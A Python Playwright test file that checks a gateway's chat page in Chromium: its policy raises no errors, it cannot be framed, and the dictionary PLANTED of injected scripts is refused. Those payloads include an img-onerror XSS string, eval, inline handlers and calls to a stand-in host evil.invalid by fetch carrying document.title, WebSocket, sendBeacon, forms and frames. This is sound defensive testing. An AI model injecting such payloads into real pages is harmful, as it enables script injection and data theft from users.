"""The page under its real policy, in a real browser: it works without a complaint; what is planted is refused."""

from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from playwright.async_api import BrowserContext, async_playwright

from tests.conftest import Require
from tests.edge.whole import Whole, whole, within

FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update"]
PAGE = "/sse-stream-test.html"
WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (e) => violations.push(e.effectiveDirective));
"""
PLANTED = {
    "a script": ("require-trusted-types-for", "append('script', {text: 'window.pwned = 1'})"),
    "a foreign script": ("require-trusted-types-for", "append('script', {src: 'https://evil.invalid/x.js'})"),
    "markup as text": ("require-trusted-types-for", "document.body.innerHTML = '<img src=x onerror=pwned=1>'"),
    "evaluated text": ("require-trusted-types-for", "eval('window.pwned = 1')"),
    "a handler": (
        "require-trusted-types-for",
        "document.body.setAttribute('onclick', 'pwned = 1'); document.body.click()",
    ),
    "a policy of its own": ("trusted-types", "trustedTypes.createPolicy('mine', {createHTML: (s) => s})"),
    "a call": ("connect-src", "fetch('https://evil.invalid/?' + document.title).catch(() => {})"),
    "a socket": ("connect-src", "new WebSocket('wss://evil.invalid/')"),
    "a beacon": ("connect-src", "navigator.sendBeacon('https://evil.invalid/', 'x')"),
    "a frame": ("frame-src", "append('iframe', {src: 'https://evil.invalid/'})"),
    "a style": ("style-src-elem", "append('link', {rel: 'stylesheet', href: 'https://evil.invalid/x.css'})"),
    "a style inline": ("style-src-attr", "document.body.setAttribute('style', 'color: red')"),
    "a base": ("base-uri", "append('base', {href: 'https://evil.invalid/'})"),
    "a form": ("form-action", "append('form', {action: 'https://evil.invalid/'}).submit()"),
    "an object": ("require-trusted-types-for", "append('object', {data: 'https://evil.invalid/'})"),
}
"""What is planted: the directive that refuses it, and the script that would plant it."""

PLANT = """() => new Promise((done) => {
    const append = (name, more) => document.body.appendChild(Object.assign(document.createElement(name), more));
    const look = () => violations.length ? done(violations) : setTimeout(look, 10);
    setTimeout(() => { try { %s } catch {} look(); });  // not from the debugger, which may evaluate anything
})"""


@pytest.fixture
async def browser(tmp_path: Path, require: Require) -> AsyncIterator[tuple[Whole, BrowserContext]]:
    """A running gateway, and a browser that keeps what its policy refuses in `violations`."""
    async with whole(tmp_path) as gateway, async_playwright() as playwright:
        chromium = await playwright.chromium.launch(executable_path=require("chromium"), args=FLAGS)
        context = await chromium.new_context(base_url=gateway.url)
        await context.add_init_script(WATCH)
        yield gateway, context
        await chromium.close()


async def test_a_whole_turn_is_shown_without_a_complaint(browser: tuple[Whole, BrowserContext]) -> None:
    _, context = browser
    tab = await context.new_page()
    complaints: list[str] = []
    tab.on("console", lambda message: complaints.append(message.text) if message.type == "error" else None)
    tab.on("pageerror", lambda error: complaints.append(str(error)))
    await tab.goto(PAGE)
    await tab.locator("#message").fill("hello")
    await tab.locator("#message").press("Enter")
    await tab.locator(".turn .content p").first.wait_for(timeout=15_000)
    assert await tab.evaluate("violations") == []
    assert complaints == []


async def test_what_a_bot_might_plant_is_refused(browser: tuple[Whole, BrowserContext]) -> None:
    _, context = browser
    tab = await context.new_page()
    for what, (directive, script) in PLANTED.items():
        await tab.goto(PAGE)  # a new document, whose `violations` are its own
        try:
            refused = await within(5, tab.evaluate(PLANT % script))
        except TimeoutError:
            pytest.fail(f"{what} was not refused")
        assert any(name.startswith(directive) for name in refused), (what, refused)
        assert await tab.evaluate("window.pwned") is None, what
        assert tab.url.endswith(PAGE), what


async def test_no_page_can_frame_it(browser: tuple[Whole, BrowserContext]) -> None:
    gateway, context = browser
    tab = await context.new_page()
    await tab.set_content(f"<iframe src='{gateway.url}{PAGE}'></iframe>")
    frame = await (await tab.wait_for_selector("iframe")).content_frame()  # type: ignore[union-attr]
    assert frame is not None
    await frame.wait_for_load_state()
    assert await frame.locator("#message").count() == 0
